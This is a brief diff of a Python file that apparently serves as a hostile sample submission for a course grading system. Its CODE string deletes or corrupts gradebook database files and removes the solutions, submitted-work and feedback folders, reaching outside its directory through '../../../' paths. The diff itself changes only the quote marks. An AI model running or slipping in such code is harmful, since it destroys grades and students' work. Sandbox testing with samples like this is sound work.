@@ -1,6 +1,6 @@
 """Deletes the gradebook and the course's folders, or fills them with nonsense."""
 
-CODE = '''
+CODE = """
 import glob, os, shutil
 for path in glob.glob("/srv/course/*.db*") + glob.glob("../../../*.db*"):
     try:
@@ -10,7 +10,7 @@ for path in glob.glob("/srv/course/*.db*") + glob.glob("../../../*.db*"):
 for folder in ("/srv/course/solutions", "/srv/course/submitted/zoe", "/srv/course/feedback",
                "../../../solutions", "../../ada"):
     shutil.rmtree(folder, ignore_errors=True)
-'''
+"""
 
 
 def submit(work):
